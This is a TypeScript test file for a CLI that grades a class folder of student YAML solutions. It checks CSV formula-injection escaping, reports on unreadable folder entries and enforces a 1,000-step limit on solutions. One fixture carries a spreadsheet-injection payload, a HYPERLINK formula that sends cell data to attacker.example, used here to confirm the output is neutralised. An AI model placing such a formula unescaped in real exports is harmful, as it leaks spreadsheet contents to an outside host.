/**
 * A teacher grading a class folder with a hostile or careless classmate in it:
 * the CSV bytes a spreadsheet reads hold no formula, entries that cannot be
 * read are said on stderr with the reason (never skipped without a word), and
 * one student's huge solution is refused in one line instead of stalling the class.
 */
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { dirname, join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { loadSolutionText, MAX_SOLUTION_STEPS } from '../../src/exercise/index.js';
import { ROOT, scratchFolder } from '../cli/helpers.js';
import { truceInProcess } from '../cli/in-process.js';
import { shippedExercise } from './helpers.js';

const scratch = scratchFolder();
afterAll(() => scratch.remove());
const SCRATCH = dirname(scratch.write('.keep', ''));

const REFERENCE = readFileSync(join(ROOT, 'exercises/solutions/first-deal.yaml'), 'utf8');

/** A fresh folder in the scratch folder, holding the reference solution under each name, with `author` for each. */
function classFolder(name: string, solutions: Record<string, string>): string {
  const folder = join(SCRATCH, name);
  mkdirSync(folder, { recursive: true });
  for (const [file, author] of Object.entries(solutions)) writeFileSync(join(folder, file), REFERENCE.replace('author: reference solution', `author: ${author}`));
  return folder;
}

/** The cells of one CSV line (RFC 4180: quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, cell]) => (cell!.startsWith('"') ? cell!.slice(1, -1).replace(/""/g, '"') : cell!));
}

describe('truce exercise check <folder> --csv', () => {
  it('starts with a quote every cell a spreadsheet would take for a formula: an author or a file name beginning with =, +, - or @', async () => {
    const folder = classFolder('formulas', {
      'ana.yaml': `'=HYPERLINK("https://attacker.example/?"&A1,"click")'`,
      '+cmd.yaml': 'Ben',
      '-2+3.yaml': "'-2+3'",
      '@SUM(A1).yaml': "'@SUM(A1)'",
    });
    writeFileSync(join(folder, '=1+1.yaml'), 'steps: [');

    const { code, stdout } = await truceInProcess(['exercise', 'check', 'first-deal', folder, '--csv']);
    const rows = stdout.split('\r\n').filter(Boolean).slice(1).map(cells);

    expect(code).toBe(2);
    expect(rows.map((row) => [row[0], row[1]])).toEqual([
      ["'+cmd.yaml", 'Ben'],
      ["'-2+3.yaml", "'-2+3"],
      ["'=1+1.yaml", ''],
      ["'@SUM(A1).yaml", "'@SUM(A1)"],
      ['ana.yaml', `'=HYPERLINK("https://attacker.example/?"&A1,"click")`],
    ]);
    // The broken file's problem begins with its path, which begins with "/": not a formula, written as it is.
    expect(rows[2]![8]).toMatch(/^\/.*=1\+1\.yaml:1:\d+: /);
    expect(stdout.split('\r\n').filter(Boolean).every((line) => !/(^|,)[=+\-@\t\r]/.test(line))).toBe(true);
  });

  it('keeps numbers as numbers: a score is never quoted', async () => {
    const folder = classFolder('numbers', { 'ana.yaml': 'Ana' });

    const { stdout } = await truceInProcess(['exercise', 'check', 'first-deal', folder, '--csv']);

    expect(stdout).toBe('file,author,steps,met,total,percent,solved,unmet,problem\r\nana.yaml,Ana,3,7,7,100,yes,,\r\n');
  });
});

/** A Unix socket listening at `path`: an entry of the folder that is not a regular file. */
function listeningSocket(path: string): Promise<Server> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(path, () => resolve(server));
  });
}

describe('truce exercise check <folder>, entries it cannot read', () => {
  it('follows a link to a solution, and says on stderr why it does not grade a broken link, a socket, a folder or a name that is not UTF-8', async () => {
    const folder = classFolder('entries', { 'ana.yaml': 'Ana' });
    symlinkSync('ana.yaml', join(folder, 'ana-link.yaml'));
    symlinkSync('nobody.yaml', join(folder, 'dangling.yaml'));
    // A socket, like a pipe or a device, is an entry that is not a regular file.
    const socket = await listeningSocket(join(folder, 'socket.yaml'));
    mkdirSync(join(folder, 'folder.yaml'));
    writeFileSync(Buffer.from(`${folder}/caf\xe9.yaml`, 'latin1'), REFERENCE);

    const { code, stdout, stderr } = await truceInProcess(['exercise', 'check', 'first-deal', folder]);
    socket.close();

    expect(code).toBe(2);
    expect(stderr.split('\n').filter(Boolean)).toEqual([
      `${folder}/caf\uFFFD.yaml:1:1: not graded: its name is not UTF-8 text; rename it`,
      `${folder}/dangling.yaml:1:1: not graded: it is a link to nothing that can be read`,
      `${folder}/folder.yaml:1:1: not graded: it is a folder`,
      `${folder}/socket.yaml:1:1: not graded: it is not a regular file (a pipe, a device or a socket)`,
    ]);
    expect(stdout).toMatch(/^ana-link\.yaml +Ana +7\/7 \(100%\) +yes$/m);
    expect(stdout).toMatch(/^socket\.yaml +- +broken: 1 problem \(listed on stderr\)$/m);
    expect(stdout).toContain('2 of 6 solved; 4 broken files');
  });
});

describe('a solution far longer than any exercise needs', () => {
  /** A solution of `count` steps that each change nothing: talks open, over and over. */
  function longSolution(count: number): string {
    const steps = Array.from({ length: count }, (_, index) => `  - { id: s${index}, date: 2023-11-22, event: { type: TALKS_OPENED } }`);
    return `author: Lee\nsteps:\n${steps.join('\n')}\n`;
  }

  it(`is refused in one line, at its steps, past ${MAX_SOLUTION_STEPS} steps`, async () => {
    const exercise = await shippedExercise('first-deal');

    const result = loadSolutionText(longSolution(MAX_SOLUTION_STEPS + 1), 'lee.yaml', exercise);

    expect(result).toEqual({
      ok: false,
      problems: [{ code: 'invalid', file: 'lee.yaml', line: 2, column: 1, path: ['steps'], message: 'a solution may have at most 1,000 steps, and this one has 1,001; an exercise needs a few dozen at most' }],
      // The author is kept from a file refused whole, for the class table.
      author: 'Lee',
    });
  });

  it(`is read, and graded, at ${MAX_SOLUTION_STEPS} steps`, async () => {
    const exercise = await shippedExercise('first-deal');

    const result = loadSolutionText(longSolution(MAX_SOLUTION_STEPS), 'lee.yaml', exercise);

    expect(result.ok && result.value.steps).toHaveLength(MAX_SOLUTION_STEPS);
  });

  it('is a broken row of the class table, and the others are graded', async () => {
    const folder = classFolder('long', { 'ana.yaml': 'Ana' });
    writeFileSync(join(folder, 'lee.yaml'), longSolution(MAX_SOLUTION_STEPS * 2));

    const { code, stdout, stderr } = await truceInProcess(['exercise', 'check', 'first-deal', folder]);

    expect(code).toBe(2);
    expect(stderr).toBe(`${folder}/lee.yaml:2:1: steps: a solution may have at most 1,000 steps, and this one has 2,000; an exercise needs a few dozen at most\n`);
    expect(stdout).toContain('1 of 2 solved; 1 broken file');
  });
});
